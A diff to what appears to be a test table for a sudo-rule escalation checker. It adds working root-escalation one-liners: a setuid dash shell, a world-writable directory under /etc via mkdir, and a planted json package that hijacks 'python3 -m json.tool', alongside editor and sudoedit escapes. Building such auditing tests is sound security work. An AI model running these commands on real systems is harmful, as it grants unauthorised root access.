@@ -99,6 +99,20 @@ TRIED = {
     ),
     "/opt/lnk /srv/notes": Tried("sudo -n /opt/lnk /srv/notes | grep -x 0", "!id -u\nq\n", "0", ROOT),
     "/usr/bin/editor /srv/notes": Tried("sudo -n editor /srv/notes | grep -x 0", "!id -u\nq\n", "0", ROOT),
+    "/usr/bin/mkdir /srv/x/*": Tried(
+        "sudo -n mkdir /srv/x/a -p -m 777 /etc/x.service.d; stat -c %a /etc/x.service.d", "", "777",
+        ("root", "write", True),
+    ),
+    "/usr/bin/chmod u+s /usr/bin/dash": Tried("sudo -n chmod u+s /usr/bin/dash; dash -p -c 'id -u'", "", "0", ROOT),
+    "/usr/bin/chmod g+s /usr/bin/bash": Tried("sudo -n chmod g+s /usr/bin/bash; bash -p -c 'id -u'", "", "1000", None),
+    "/usr/bin/python3 -m json.tool": Tried(
+        "mkdir -p /tmp/x/json; cd /tmp/x; echo 'import os; os.system(\"id -u\"); os._exit(0)' >json/__init__.py;"
+        " sudo -n python3 -m json.tool", "", "0", ROOT,
+    ),
+    "/usr/bin/python3 -I -m json.tool": Tried(
+        "mkdir -p /tmp/x/json; cd /tmp/x; echo 'import os; os.system(\"id -u\"); os._exit(0)' >json/__init__.py;"
+        " sudo -n python3 -I -m json.tool 2>/dev/null", "", "", None,
+    ),
     "sudoedit /srv/job": Tried(
         "cat >/tmp/e; chmod 755 /tmp/e; EDITOR=/tmp/e sudo -n -e /srv/job; cat /srv/job", "#!/bin/sh\necho id -u >$1\n",
         "id -u", ("root", "write", True),
